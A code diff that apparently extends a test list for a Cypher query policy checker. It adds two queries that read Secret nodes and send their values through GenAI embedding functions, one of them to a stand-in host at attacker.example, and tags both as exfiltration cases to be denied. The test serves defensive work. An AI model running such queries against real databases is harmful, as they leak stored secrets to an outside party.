@@ -268,6 +268,8 @@ funcs = [
     ("RETURN apoc.case([true, 'CREATE (n)'], '', {}) AS c", ["dynamic-cypher"]),
     ("RETURN db.nameFromElementId('4:x:1') AS n", ["db-function"]),
     ("RETURN apoc.load.json('http://x') AS v", ["apoc-load-function"]),
+    ("MATCH (s:Secret) RETURN genai.vector.encode(s.value, 'OpenAI', {token: 'x', endpoint: 'https://attacker.example/'}) AS v", ["genai", "exfiltration"]),
+    ("MATCH (s:Secret) RETURN ai.text.embed(s.value, 'OpenAI', {}) AS v", ["genai", "exfiltration"]),
 ]
 for q, tags in funcs:
     add(q, "deny", "function.denied", label=P, tags=tags)
